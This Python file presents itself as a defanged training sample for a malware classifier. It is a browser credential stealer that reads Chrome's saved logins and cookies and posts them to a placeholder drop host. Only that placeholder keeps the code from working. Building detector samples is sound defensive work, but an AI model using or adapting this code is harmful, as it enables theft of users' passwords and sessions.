# DEFANGED TRAINING SAMPLE for the shrike malicious-Python classifier. Never executed by anything.
# Addresses are documentation-only (127.0.0.1, 192.0.2.0/24, example.invalid); no working payload.
import os, shutil, sqlite3, tempfile, requests, json

def chrome_logins():
    db = os.path.expanduser("~/.config/google-chrome/Default/Login Data")
    tmp = os.path.join(tempfile.gettempdir(), "ld.db")
    shutil.copy2(db, tmp)
    con = sqlite3.connect(tmp)
    rows = con.execute("SELECT origin_url, username_value, password_value FROM logins").fetchall()
    con.close()
    return [(u, n, p.hex()) for u, n, p in rows]

def cookies():
    db = os.path.expanduser("~/.config/google-chrome/Default/Cookies")
    con = sqlite3.connect(db)
    return con.execute("SELECT host_key, name, encrypted_value FROM cookies").fetchall()

requests.post("https://drop.example.invalid/up", files={"f": json.dumps({"l": chrome_logins(), "c": str(cookies())})})
